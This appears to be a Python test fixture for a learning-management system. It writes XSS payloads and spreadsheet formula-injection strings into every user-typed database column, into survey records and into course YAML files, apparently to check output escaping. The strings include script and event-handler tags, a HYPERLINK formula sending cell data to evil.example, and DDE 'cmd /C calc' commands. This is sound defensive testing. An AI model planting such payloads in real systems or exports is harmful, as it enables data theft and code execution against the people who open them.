"""Scripts and formulas written into everything that can be written, past every check at the door."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import Any

from lms.store.database import Tx

MARK = "bẫy-7"
SCRIPT = (
    f'{MARK}"\'><img src=x onerror="window.boom=1"><svg/onload=window.boom=2><script>window.boom=3</script>'
    '<a href="javascript:window.boom=4">a</a><iframe srcdoc="<script>parent.boom=5</script>"></iframe>'
    "[b](javascript:window.boom=6) ![c](x) <style>body{display:none}</style> {{7*7}} ${7*7} :red[x]"
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Lan")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
COURSES = Path(__file__).resolve().parents[2] / "courses"

# table → columns of what somebody typed, somewhere, at some time.
TYPED = {
    "people": ("village", "position", "qualification"),
    "memberships": ("note", "legal_fields", "village", "team", "decision_number"),
    "org_units": ("name",),
    "cohorts": ("title",),
    "sessions": ("title", "place"),
    "imports": ("file_name",),
    "audit": ("reason",),
    "attendance": ("reason",),
    "sign_ins": ("device",),
    "certificate_events": ("reason",),
    "item_reviews": ("note", "against"),
}
SURVEY, CHANGE, SOURCE = "khao-sat-bay", "thay-doi-bay", "luat-35-2013"
"""A survey and a change of the law, written by somebody who means harm; and the document that changes."""
_TEXTS = {"title", "text", "explanation", "summary", "objective", "markdown", "body", "note", "name"}


def write_store(tx: Tx) -> None:
    columns = {(row[0], row[1]) for row in tx.all("SELECT table_name, column_name FROM duckdb_columns()")}
    for table, names in TYPED.items():
        for name in names:
            if (table, name) in columns:
                tx.run(f'UPDATE {table} SET "{name}" = coalesce("{name}", \'\') || $1', SCRIPT)
    _write_survey(tx)
    _write_change(tx)
    people = [row[0] for row in tx.all("SELECT id FROM people ORDER BY id")]
    for number, person_id in enumerate(people):
        if number % 2:
            formula = FORMULAS[number // 2 % len(FORMULAS)]
            tx.run("UPDATE people SET full_name = $1 || ' ' || full_name WHERE id = $2", formula, person_id)
        else:
            tx.run("UPDATE people SET full_name = full_name || $1 WHERE id = $2", SCRIPT, person_id)
    for course_id, version, content in tx.all("SELECT course_id, version, content FROM course_versions"):
        tx.run(
            "UPDATE course_versions SET content = $1 WHERE course_id = $2 AND version = $3",
            json.dumps(_poisoned(json.loads(content)), ensure_ascii=False),
            course_id,
            version,
        )


def _write_survey(tx: Tx) -> None:
    """Of the class that has a session now: a form of scripts, and answers of scripts and formulas."""
    row = tx.one("SELECT cohort_id FROM sessions ORDER BY starts_at DESC, id LIMIT 1")
    assert row is not None
    questions = [
        {"id": "diem", "type": "scale", "text": SCRIPT, "low": SCRIPT, "high": SCRIPT},
        {"id": "chon", "type": "choice", "text": SCRIPT, "choices": [SCRIPT, FORMULAS[0]]},
        {"id": "loi", "type": "text", "text": SCRIPT},
    ]
    form = {"id": "bay", "title": SCRIPT, "intro": SCRIPT, "questions": questions}
    tx.run(
        "INSERT INTO surveys SELECT $1, $2, NULL, $3, current_date + 30, 'x', now()",
        SURVEY,
        row[0],
        json.dumps(form, ensure_ascii=False),
    )
    for name, count in (("account", 6), ("room", 0), ("paper", 0), ("opened", 6)):
        tx.run("INSERT INTO survey_counts VALUES ($1, $2, $3)", SURVEY, name, count)
    for question, value in [("diem", str(one)) for one in range(1, 6)] + [("chon", "1"), ("chon", "2")]:
        tx.run("INSERT INTO survey_tallies VALUES ($1, $2, $3, 3)", SURVEY, question, value)
    for number, words in enumerate((SCRIPT, *FORMULAS)):
        tx.run("INSERT INTO survey_words VALUES ($1, $2, 'loi', $3)", f"loi-{number}", SURVEY, words)


def _write_change(tx: Tx) -> None:
    """Of the document that our courses cite most."""
    tx.run(
        "INSERT INTO law_changes SELECT $1, $2, 'amended', current_date - 1, '[]', $3, $3, $3, 'x', now()",
        CHANGE,
        SOURCE,
        SCRIPT,
    )


def _poisoned(value: Any) -> Any:
    if isinstance(value, dict):
        return {
            key: f"{inner} {SCRIPT}" if key in _TEXTS and isinstance(inner, str) else _poisoned(inner)
            for key, inner in value.items()
        }
    return [_poisoned(inner) for inner in value] if isinstance(value, list) else value


def write_courses(folder: Path) -> Path:
    """Our courses with scripts in titles, questions, choices and reasons."""
    shutil.copytree(COURSES, folder, dirs_exist_ok=True)
    for file in folder.rglob("*.yaml"):
        if file.name in ("quiz.yaml", "course.yaml", "module.yaml"):
            text = file.read_text("utf-8")
            file.write_text(re.sub(r"(?m)^(\s*(?:- )?(?:title|text): )(.+)$", _quoted, text), "utf-8")
    return folder


def _quoted(found: re.Match[str]) -> str:
    return found[1] + json.dumps(f"{found[2]} {SCRIPT}", ensure_ascii=False)
